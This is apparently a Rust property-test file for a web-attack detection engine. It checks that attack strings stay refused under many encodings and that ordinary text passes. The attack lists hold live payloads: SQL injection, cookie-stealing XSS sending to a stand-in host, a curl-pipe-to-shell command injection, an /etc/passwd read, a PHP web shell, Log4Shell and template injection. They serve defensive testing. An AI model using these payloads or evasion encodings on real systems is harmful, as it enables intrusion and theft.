//! A value is judged by what it means, however it is written: an attack that is encoded once more keeps its verdict, and
//! ordinary data does not become an attack by it, nor by standing beside other ordinary data.

#![expect(clippy::unwrap_used, reason = "a test fails where it cannot build")]

use std::fmt::Write as _;
use std::sync::LazyLock;

use proptest::prelude::*;
use proptest::sample::{Index, select};
use rasp_engine::{Body, Confidence, Effective, Finding, Head, Outcome, Ruleset};

static RULESET: LazyLock<Ruleset> = LazyLock::new(|| Ruleset::build(&Effective::builtin_blocking()).unwrap());

/// What is found where a value is a parameter, and whether it is refused.
fn judged(value: &[u8]) -> (Vec<Finding>, bool, usize) {
    let mut target = b"/?q=".to_vec();
    target.extend(percent_all(value));
    let head = Head { target: &target, ..head() };
    let mut inspection = RULESET.inspect_head(&head);
    RULESET.inspect_body(&head, Body::Empty, &mut inspection);
    let work = inspection.work();
    let judgement = RULESET.decide(inspection);
    (judgement.findings, matches!(judgement.outcome, Outcome::Refuse(_)), work)
}

fn head() -> Head<'static> {
    Head { method: "GET", target: b"/", content_type: None, content_encoding: None, fields: &() }
}

fn percent_all(value: &[u8]) -> Vec<u8> {
    value.iter().fold(Vec::new(), |mut out, byte| {
        out.extend(format!("%{byte:02x}").bytes());
        out
    })
}

/// A way to write a value once more.
#[derive(Clone, Copy, Debug)]
enum Way {
    Percent,
    PercentU,
    References,
    NamedAndNumbers,
    BackslashU,
    BackslashX,
    Octal,
    Base64,
    Base64Url,
    Hex,
    JsonString,
    FullWidth,
    Overlong,
    Utf7,
    Utf16,
}

const WAYS: &[Way] = &[
    Way::Percent,
    Way::PercentU,
    Way::References,
    Way::NamedAndNumbers,
    Way::BackslashU,
    Way::BackslashX,
    Way::Octal,
    Way::Base64,
    Way::Base64Url,
    Way::Hex,
    Way::JsonString,
    Way::FullWidth,
    Way::Overlong,
    Way::Utf7,
    Way::Utf16,
];

impl Way {
    /// With `letters`, some letters and digits are escaped as well.
    fn write(self, value: &[u8], choice: Index, letters: bool) -> Vec<u8> {
        let mut out = Vec::new();
        for (at, byte) in value.iter().copied().enumerate() {
            // Letters may stay, in no pattern; the letter of a number in any case.
            let turn = choice.index(997) / (at % 7 + 1) + at;
            let stays = byte.is_ascii_alphanumeric() && (!letters || !turn.is_multiple_of(3));
            let is_upper = turn.is_multiple_of(2);
            let mut text = String::new();
            let hex = |width: usize| {
                if is_upper { format!("{byte:0width$X}") } else { format!("{byte:0width$x}") }
            };
            match self {
                Self::Percent if !stays => text = format!("%{}", hex(2)),
                Self::PercentU if !stays => text = format!("%u{}", hex(4)),
                Self::References if !stays => text = format!("&#x{};", hex(2)),
                Self::NamedAndNumbers if byte == b'<' => text.push_str("&lt;"),
                Self::NamedAndNumbers if byte == b'"' => text.push_str("&quot;"),
                Self::NamedAndNumbers if !stays => text = format!("&#{byte:03};"),
                Self::BackslashU if !stays => text = format!("\\u{}", hex(4)),
                Self::BackslashX if !stays => text = format!("\\x{}", hex(2)),
                Self::Octal if !stays => text = format!("\\{byte:03o}"),
                Self::FullWidth if byte == b' ' => text.push('\u{3000}'),
                Self::FullWidth if !stays && byte.is_ascii_graphic() => {
                    text.push(char::from_u32(0xFF01 + u32::from(byte - b'!')).unwrap());
                }
                Self::Hex => {
                    let _ = write!(text, "{}{}", if at == 0 { "0x" } else { "" }, hex(2));
                }
                Self::Utf7 if !byte.is_ascii_alphanumeric() => {
                    text = format!("+{}-", base64(&[0, byte], false).trim_end_matches('='));
                }
                Self::Overlong if !byte.is_ascii_alphanumeric() => {
                    out.extend([0xC0 | byte >> 6, 0x80 | byte & 0x3F]);
                    continue;
                }
                Self::Utf16 => {
                    out.extend([byte, 0]);
                    continue;
                }
                _ => {
                    out.push(byte);
                    continue;
                }
            }
            out.extend(text.bytes());
        }
        match self {
            Self::Base64 => base64(value, false).into_bytes(),
            Self::Base64Url => base64(value, true).trim_end_matches('=').into(),
            Self::JsonString => {
                serde_json::json!({ "a": [String::from_utf8_lossy(value)] }).to_string().into()
            }
            _ => out,
        }
    }
}

fn base64(value: &[u8], url: bool) -> String {
    let digits: &[u8; 64] = if url {
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    } else {
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    };
    value.chunks(3).fold(String::new(), |mut text, chunk| {
        let bits = (0..3).fold(0, |bits, at| bits << 8 | usize::from(chunk.get(at).copied().unwrap_or(0)));
        for at in 0..4 {
            text.push(if at <= chunk.len() { char::from(digits[bits >> (18 - 6 * at) & 63]) } else { '=' });
        }
        text
    })
}

/// Each is refused by one finding on its own.
const ATTACKS: &[&str] = &[
    "1' OR '1'='1",
    "1 UNION SELECT username, password FROM users-- -",
    "x'; DROP TABLE orders; --",
    "1 AND SLEEP(5)",
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//h.example/'+document.cookie)>",
    "../../../../etc/passwd",
    "127.0.0.1; cat /etc/passwd",
    "$(curl http://h.example/x | sh)",
    "<?php system($_GET['c']); ?>",
    "${jndi:ldap://h.example/a}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "*)(uid=*))(|(uid=*",
];

/// Ordinary, also where it looks like something.
const ORDINARY: &[&str] = &[
    "Mary O'Hara & Sons",
    "please select one of these, or call us: union members drop in at 5",
    "100% cotton; 50 % off <3",
    "price < 10 and size > 2",
    "ada.lovelace+news@example.org",
    "https://shop.example/a/b.html?x=1&y=2#top",
    "2026-01-31T10:00:00+02:00",
    "0f8fad5b-d9cb-469f-a165-70867728950e",
    "d41d8cd98f00b204e9800998ecf8427e",
    "C:\\Users\\Ada\\notes.txt",
    "The file is in ../docs, see README",
    "{\"name\":\"Ada\",\"tags\":[\"a\",\"b\"]}",
    "<p>Hello <b>Ada</b>, &quot;welcome&quot;</p>",
    "5'10\" tall -- and it's fine",
    "internationalization",
    "kJ8sLq0ZxV3nPw5TgYbR7A",
];

#[test]
fn every_attack_of_the_property_is_refused_and_nothing_ordinary_is() {
    for attack in ATTACKS {
        assert!(judged(attack.as_bytes()).1, "{attack}");
    }
    for value in ORDINARY {
        assert!(!judged(value.as_bytes()).1, "{value}: {:?}", judged(value.as_bytes()).0);
    }
}

#[test]
fn a_finding_in_an_encoded_value_is_that_of_the_value_and_says_how_it_was_encoded() {
    let value = "%4a%79%42vciAnMSc9JzE=";
    let (findings, refused, _) = judged(value.as_bytes());
    assert!(refused);
    let finding = &findings[0];
    let location = (finding.location.name.as_str(), finding.location.offset, finding.location.length);
    assert_eq!(location, ("q", 0, value.len()));
    assert_eq!(finding.location.encodings.iter().collect::<Vec<_>>(), ["percent", "base64"]);
    assert_eq!(findings.iter().filter(|other| other.rule == finding.rule).count(), 1, "{findings:?}");
}

#[test]
fn letters_of_a_tag_that_are_encoded_twice_are_a_disguise() {
    let rows = [("%3c%49%4d%47%20%53%52%43%3d%22a%22%3e", true), ("%3cimg%20src%3d%22a%22%3e", false)];
    for (value, expected) in rows {
        let (findings, refused, _) = judged(value.as_bytes());
        assert_eq!(refused, expected, "{value}: {findings:?}");
        assert_eq!(findings.iter().any(|finding| finding.rule.0 == "xss-hidden-tag"), expected);
    }
}

#[test]
fn what_editors_and_uploads_write_like_that_is_no_more_than_medium() {
    let page = "<h1>How scripts run</h1>\n<script>\nalert(document.cookie)\n</script>\n";
    let rows = [
        "In HTML, &lt;script&gt;alert(1)&lt;/script&gt; runs a script".to_owned(),
        base64(page.as_bytes(), false),
    ];
    for value in rows {
        let (findings, refused, _) = judged(value.as_bytes());
        assert!(!refused, "{findings:?}");
        assert!(findings.iter().all(|finding| finding.confidence <= Confidence::Medium), "{findings:?}");
    }
}

/// Attacks in languages in which letters of either case are the same.
const CASELESS: &[&str] = &[
    "1' or '1'='1",
    "1 union select username, password from users-- -",
    "x'; drop table orders; --",
    "1 and sleep(5)",
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//h.example/'+document.cookie)>",
    "${jndi:ldap://h.example/a}",
    "*)(uid=*))(|(uid=*",
];

/// Targets of the own corpus that are refused, and by which rules.
static CORPUS: LazyLock<Vec<(Vec<u8>, Vec<&'static str>)>> = LazyLock::new(|| {
    let file = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../score/corpus/own_attacks.jsonl");
    let text = std::fs::read_to_string(file).unwrap();
    let mut known = Vec::new();
    for line in text.lines() {
        let row: serde_json::Value = serde_json::from_str(line).unwrap();
        let Some(target) = row["uri"].as_str().filter(|target| target.contains('?')) else { continue };
        let target = target.as_bytes().to_vec();
        let inspection = RULESET.inspect_head(&Head { target: &target, ..head() });
        let judgement = RULESET.decide(inspection);
        if matches!(judgement.outcome, Outcome::Refuse(_)) {
            known.push((target, judgement.findings.iter().map(|finding| finding.rule.0).collect()));
        }
    }
    assert!(known.len() > 60, "only {}", known.len());
    known
});

/// The same target by RFC 3986 section 6.2.2: what is unreserved in a value of the query is escaped or not, digits of escapes are in any
/// case.
fn escaped_again(target: &[u8], turns: &[u8]) -> Vec<u8> {
    let start = target.iter().position(|byte| *byte == b'?').unwrap();
    let (mut out, mut turns, mut is_value) = (target[..=start].to_vec(), turns.iter().cycle(), false);
    let mut digits = 0;
    for byte in &target[start + 1..] {
        let turn = *turns.next().unwrap();
        match byte {
            b'%' => {
                digits = 2;
                out.push(b'%');
            }
            byte if digits > 0 => {
                digits -= 1;
                out.push(if turn.is_multiple_of(2) {
                    byte.to_ascii_uppercase()
                } else {
                    byte.to_ascii_lowercase()
                });
            }
            byte if is_value && byte.is_ascii_alphanumeric() && turn.is_multiple_of(3) => {
                out.extend(format!("%{byte:02x}").bytes());
            }
            byte => {
                is_value = if *byte == b'&' { false } else { is_value || *byte == b'=' };
                out.push(*byte);
            }
        }
    }
    out
}

/// Of which escapes and escapes of escapes are made.
const PIECES: &[&[u8]] = &[
    b"%25",
    b"%u0025",
    b"&amp;",
    b"&#38;",
    b"\\u005c",
    b"\\x5c",
    b"\\134",
    b"+ACU-",
    b"+A",
    b"\xEF\xBC\x85",
    b"\xC0\xA5",
    b"\0",
    b"27",
    b"lt;",
    b"'",
    b"+or",
    b"<",
    b"JyBv",
    b"\n",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn an_attack_keeps_its_verdict_in_any_encoding(
        attack in select(ATTACKS),
        ways in proptest::collection::vec((select(WAYS), any::<Index>()), 1..3),
    ) {
        let mut value = attack.as_bytes().to_vec();
        for (way, choice) in &ways {
            // Text of ASCII is what the others are for.
            let is_text = value.is_ascii() && !value.contains(&0);
            if !is_text && !matches!(way, Way::Percent) {
                continue;
            }
            value = way.write(&value, *choice, true);
        }
        let (findings, refused, _) = judged(&value);
        prop_assert!(refused, "{attack} as {ways:?}: {}: {findings:?}", value.escape_ascii());
    }

    #[test]
    fn an_attack_in_a_language_without_case_keeps_its_verdict_in_any_case(
        attack in select(CASELESS),
        flips in proptest::collection::vec(any::<bool>(), 80),
    ) {
        let value: String = attack
            .chars()
            .zip(flips.iter().cycle())
            .map(|(char, flip)| if *flip { char.to_ascii_uppercase() } else { char.to_ascii_lowercase() })
            .collect();
        let (findings, refused, _) = judged(value.as_bytes());
        prop_assert!(refused, "{value}: {findings:?}");
    }

    #[test]
    fn an_attack_of_the_own_corpus_keeps_its_verdict_however_its_target_is_escaped(
        chosen in any::<Index>(),
        turns in proptest::collection::vec(any::<u8>(), 64),
    ) {
        let (target, rules) = &CORPUS[chosen.index(CORPUS.len())];
        let written = escaped_again(target, &turns);
        let head = Head { target: &written, ..head() };
        let inspection = RULESET.inspect_head(&head);
        let refused = matches!(RULESET.decide(inspection).outcome, Outcome::Refuse(_));
        prop_assert!(refused, "{} for {rules:?}", written.escape_ascii());
    }

    #[test]
    fn ordinary_data_stays_ordinary_in_any_encoding_and_beside_other_such_data(
        first in select(ORDINARY),
        second in select(ORDINARY),
        between in select(&[" ", ", ", "\n", "; ", "-"][..]),
        way in select(WAYS),
        choice in any::<Index>(),
    ) {
        let both = format!("{first}{between}{second}");
        // Whose letters are escaped as well is not ordinary.
        let value = way.write(both.as_bytes(), choice, false);
        let (findings, refused, _) = judged(&value);
        prop_assert!(!refused, "{both} as {way:?}: {findings:?}");
        let (findings, refused, _) = judged(both.as_bytes());
        prop_assert!(!refused, "{both}: {findings:?}");
    }

    #[test]
    fn no_bytes_make_it_panic_and_all_readings_together_are_bounded(
        pieces in proptest::collection::vec(
            prop_oneof![
                select(PIECES).prop_map(<[u8]>::to_vec),
                proptest::collection::vec(any::<u8>(), 1..4),
            ],
            0..300,
        ),
        base64_times in 0..4_usize,
    ) {
        let mut value = pieces.concat();
        for _ in 0..base64_times {
            value = base64(&value, false).into_bytes();
        }
        let (_, _, work) = judged(&value);
        prop_assert!(work <= 128 * value.len() + 4_096, "{work} units for {} bytes", value.len());
    }
}
